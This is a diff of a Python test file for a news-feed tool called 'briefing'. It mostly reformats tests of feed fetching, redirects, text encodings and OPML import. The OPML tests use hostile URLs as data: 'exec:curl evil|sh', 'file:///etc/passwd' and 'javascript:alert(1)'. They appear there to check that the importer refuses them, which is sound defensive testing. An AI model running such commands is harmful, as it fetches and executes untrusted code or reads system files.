@@ -11,7 +11,7 @@ from __future__ import annotations
 
 import socket
 import sqlite3
-from datetime import datetime, timedelta, timezone
+from datetime import UTC, datetime, timedelta, timezone
 from email.utils import format_datetime
 
 import pytest
@@ -32,6 +32,7 @@ def feeds_rows(done) -> dict[str, str]:
 
 
 # -- a 304 nobody asked for ------------------------------------------------------------------------
+
 
 @pytest.mark.slow
 def test_a_304_to_a_request_without_validators_is_a_failure(tmp_path, feed_server, run):
@@ -54,8 +55,10 @@ def test_a_304_to_a_request_without_validators_is_a_failure(tmp_path, feed_serve
     assert f"Later: failed: {NO_CACHED_COPY}" in second.stdout
     assert last_line(second.stdout) == "2 feeds: 0 updated, 0 not modified, 2 failed; 0 new articles"
     assert second.returncode == 1  # every feed failed
-    assert all(seen.header("if-none-match") is None and seen.header("if-modified-since") is None
-               for seen in feed_server.requests())
+    assert all(
+        seen.header("if-none-match") is None and seen.header("if-modified-since") is None
+        for seen in feed_server.requests()
+    )
 
     rows = feeds_rows(run("feeds"))
     for name in ("Always", "Later"):
@@ -66,6 +69,7 @@ def test_a_304_to_a_request_without_validators_is_a_failure(tmp_path, feed_serve
 
 # -- a feed with more entries than are kept ------------------------------------------------------------
 
+
 @pytest.mark.slow
 def test_a_capped_feed_says_so_and_keeps_the_newest(tmp_path, feed_server, run):
     """Ten old entries come first in the document and 2,000 newer ones
@@ -73,15 +77,29 @@ def test_a_capped_feed_says_so_and_keeps_the_newest(tmp_path, feed_server, run):
     were kept of how many."""
     from briefing.ingest.feed import MAX_ENTRIES
 
-    start = datetime(2025, 2, 4, 10, 0, tzinfo=timezone.utc)
+    start = datetime(2025, 2, 4, 10, 0, tzinfo=UTC)
 
     def dated(when: datetime) -> str:
         return format_datetime(when, usegmt=True)
 
-    old = [item(f"old{i}", f"Old Syria story {i}", f"http://example.invalid/old{i}",
-                pub_date=dated(start - timedelta(days=400 + i))) for i in range(10)]
-    new = [item(f"new{i}", f"New Syria story {i}", f"http://example.invalid/new{i}",
-                pub_date=dated(start - timedelta(minutes=i))) for i in range(MAX_ENTRIES)]
+    old = [
+        item(
+            f"old{i}",
+            f"Old Syria story {i}",
+            f"http://example.invalid/old{i}",
+            pub_date=dated(start - timedelta(days=400 + i)),
+        )
+        for i in range(10)
+    ]
+    new = [
+        item(
+            f"new{i}",
+            f"New Syria story {i}",
+            f"http://example.invalid/new{i}",
+            pub_date=dated(start - timedelta(minutes=i)),
+        )
+        for i in range(MAX_ENTRIES)
+    ]
     feed_server.route("/big.xml", Reply(body=rss(*old, *new)))
     config_for(tmp_path, feed_server, {"Big": "/big.xml"})
 
@@ -98,6 +116,7 @@ def test_a_capped_feed_says_so_and_keeps_the_newest(tmp_path, feed_server, run):
 
 
 # -- redirects that fail ---------------------------------------------------------------------------
+
 
 def closed_port() -> int:
     """A loopback port nothing listens on (it was just free)."""
@@ -119,14 +138,26 @@ def test_a_failed_redirect_says_it_was_a_redirect(tmp_path, feed_server, run):
     feed_server.route("/to-slow", Reply(302, headers={"Location": "/slow.xml"}))
     feed_server.route("/slow.xml", Reply(body=rss(item("s", "Syria talks")), delay=5))
     feed_server.route("/missing-direct", Reply(404))
-    config_for(tmp_path, feed_server, {
-        "Refused": "/to-refused", "Missing": "/to-missing", "Loop": "/loop-a", "Chain": "/chain0",
-        "Ftp": "/to-ftp", "Slow": "/to-slow", "Direct": "/missing-direct",
-    }, timeout=1)
+    config_for(
+        tmp_path,
+        feed_server,
+        {
+            "Refused": "/to-refused",
+            "Missing": "/to-missing",
+            "Loop": "/loop-a",
+            "Chain": "/chain0",
+            "Ftp": "/to-ftp",
+            "Slow": "/to-slow",
+            "Direct": "/missing-direct",
+        },
+        timeout=1,
+    )
 
     done = run("refresh")
-    lines = {line.split(": ", 1)[0].split("] ", 1)[-1]: line.split(": ", 1)[1].rsplit(" (", 1)[0]
-             for line in done.stdout.splitlines()[:-1]}
+    lines = {
+        line.split(": ", 1)[0].split("] ", 1)[-1]: line.split(": ", 1)[1].rsplit(" (", 1)[0]
+        for line in done.stdout.splitlines()[:-1]
+    }
     assert lines["Refused"] == f"failed: redirected to {refused}: connection refused"
     assert lines["Missing"] == f"failed: redirected to {feed_server.url('/missing.xml')}: HTTP 404"
     assert lines["Loop"] == f"failed: redirect loop: redirected back to {feed_server.url('/loop-a')}"
@@ -143,11 +174,14 @@ def test_a_failed_redirect_says_it_was_a_redirect(tmp_path, feed_server, run):
 ARTICLE = "Ankara hosts Damascus for talks\n\nSyria's leader met Erdoğan in Ankara on Tuesday.\n"
 
 
-@pytest.mark.parametrize("encoding, bom", [
-    ("utf-16-le", b"\xff\xfe"),
-    ("utf-16-be", b"\xfe\xff"),
-    ("utf-8", b"\xef\xbb\xbf"),
-])
+@pytest.mark.parametrize(
+    "encoding, bom",
+    [
+        ("utf-16-le", b"\xff\xfe"),
+        ("utf-16-be", b"\xfe\xff"),
+        ("utf-8", b"\xef\xbb\xbf"),
+    ],
+)
 @pytest.mark.parametrize("suffix", [".txt", ".md"])
 def test_text_files_with_a_byte_order_mark_import(tmp_path, encoding, bom, suffix):
     path = tmp_path / f"article{suffix}"
@@ -165,19 +199,21 @@ def test_text_files_with_a_byte_order_mark_import(tmp_path, encoding, bom, suffi
 def test_a_utf16_feed_file_without_a_feed_suffix_is_read_as_a_feed(tmp_path):
     document = rss(item("u1", "Syria talks in Ankara", "http://example.invalid/u1", "Talks.")).decode()
     path = tmp_path / "saved-feed"
-    path.write_bytes(b"\xff\xfe" + document.replace('encoding="utf-8"', 'encoding="utf-16"')
-                     .encode("utf-16-le"))
+    path.write_bytes(b"\xff\xfe" + document.replace('encoding="utf-8"', 'encoding="utf-16"').encode("utf-16-le"))
     done = run_cli("--cache", str(tmp_path / "x.db"), "import", str(path))
     assert done.returncode == 0, done.stderr.decode()
     with sqlite3.connect(tmp_path / "x.db") as db:
         assert [t for (t,) in db.execute("SELECT title FROM articles")] == ["Syria talks in Ankara"]
 
 
-@pytest.mark.parametrize("content", [
-    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,  # a real binary file
-    b"\xff\xfe" + bytes(range(256)) * 4,  # a UTF-16 mark on bytes that are not UTF-16 text
-    b"\xff\xfe" + "text\x00with a zero".encode("utf-16-le"),  # UTF-16 that holds a NUL
-])
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,  # a real binary file
+        b"\xff\xfe" + bytes(range(256)) * 4,  # a UTF-16 mark on bytes that are not UTF-16 text
+        b"\xff\xfe" + "text\x00with a zero".encode("utf-16-le"),  # UTF-16 that holds a NUL
+    ],
+)
 def test_binary_files_are_still_refused(tmp_path, content):
     path = tmp_path / "thing.txt"
     path.write_bytes(content)
@@ -185,31 +221,39 @@ def test_binary_files_are_still_refused(tmp_path, content):
     before = tree_snapshot(tmp_path)
     done = run_cli("--cache", str(store), "import", str(path))
     assert done.returncode == 2
-    assert done.stderr.decode().strip().splitlines()[-1].endswith(
-        f"{path}: a binary file, not text, HTML, JSON or a feed")
+    assert (
+        done.stderr.decode().strip().splitlines()[-1].endswith(f"{path}: a binary file, not text, HTML, JSON or a feed")
+    )
     assert "Traceback" not in done.stderr.decode()
     assert tree_snapshot(tmp_path) == before
 
 
 # -- OPML with one bad URL among good ones ----------------------------------------------------------
 
+
 def _opml(*outlines: str) -> str:
-    return ('<?xml version="1.0"?><opml version="2.0"><head><title>x</title></head><body>'
-            + "".join(outlines) + "</body></opml>")
+    return (
+        '<?xml version="1.0"?><opml version="2.0"><head><title>x</title></head><body>'
+        + "".join(outlines)
+        + "</body></opml>"
+    )
 
 
 @pytest.mark.slow
 def test_opml_with_a_bad_url_skips_it_and_adds_the_rest(tmp_path, run):
     config = write_config(tmp_path / "feeds.toml", [("Existing", "https://example.com/rss")])
     before = config.read_text()
-    opml = write(tmp_path / "subs.opml", _opml(
-        '<outline text="Good one" xmlUrl="https://one.example/rss"/>',
-        '<outline text="Run" xmlUrl="exec:curl evil|sh"/>',
-        '<outline text="Local" xmlUrl="file:///etc/passwd"/>',
-        '<outline text="Rel" xmlUrl="/feed.xml"/>',
-        '<outline text="Existing" xmlUrl="https://example.com/rss"/>',
-        '<outline text="Good two" xmlUrl="http://two.example/atom"/>',
-    ))
+    opml = write(
+        tmp_path / "subs.opml",
+        _opml(
+            '<outline text="Good one" xmlUrl="https://one.example/rss"/>',
+            '<outline text="Run" xmlUrl="exec:curl evil|sh"/>',
+            '<outline text="Local" xmlUrl="file:///etc/passwd"/>',
+            '<outline text="Rel" xmlUrl="/feed.xml"/>',
+            '<outline text="Existing" xmlUrl="https://example.com/rss"/>',
+            '<outline text="Good two" xmlUrl="http://two.example/atom"/>',
+        ),
+    )
     done = run("opml", "import", str(opml))
     assert done.returncode == 0, done.stderr
     assert done.stderr == ""
@@ -221,7 +265,7 @@ def test_opml_with_a_bad_url_skips_it_and_adds_the_rest(tmp_path, run):
     ]
     after = config.read_text()
     assert after.startswith(before)
-    added = after[len(before):]
+    added = after[len(before) :]
     assert "https://one.example/rss" in added and "http://two.example/atom" in added
     assert "exec:" not in added and "file:" not in added and "/feed.xml" not in added
     listed = run("feeds")
@@ -231,15 +275,20 @@ def test_opml_with_a_bad_url_skips_it_and_adds_the_rest(tmp_path, run):
 
 def test_opml_with_no_good_url_changes_nothing(tmp_path, run):
     config = write_config(tmp_path / "feeds.toml", [("Existing", "https://example.com/rss")])
-    opml = write(tmp_path / "subs.opml", _opml(
-        '<outline text="Run" xmlUrl="exec:curl evil|sh"/>',
-        '<outline text="Js" xmlUrl="javascript:alert(1)"/>',
-    ))
+    opml = write(
+        tmp_path / "subs.opml",
+        _opml(
+            '<outline text="Run" xmlUrl="exec:curl evil|sh"/>',
+            '<outline text="Js" xmlUrl="javascript:alert(1)"/>',
+        ),
+    )
     before = tree_snapshot(tmp_path)
     done = run("opml", "import", str(opml))
     assert done.returncode == 2 and done.stdout == ""
-    assert done.stderr == (f"briefing: error: {opml}: feed 'Run' has a exec: URL (exec:curl evil|sh); "
-                           "only http:// and https:// feeds can be imported (1 other feed refused too); "
-                           "nothing was imported\n")
+    assert done.stderr == (
+        f"briefing: error: {opml}: feed 'Run' has a exec: URL (exec:curl evil|sh); "
+        "only http:// and https:// feeds can be imported (1 other feed refused too); "
+        "nothing was imported\n"
+    )
     assert tree_snapshot(tmp_path) == before
     assert config.exists()
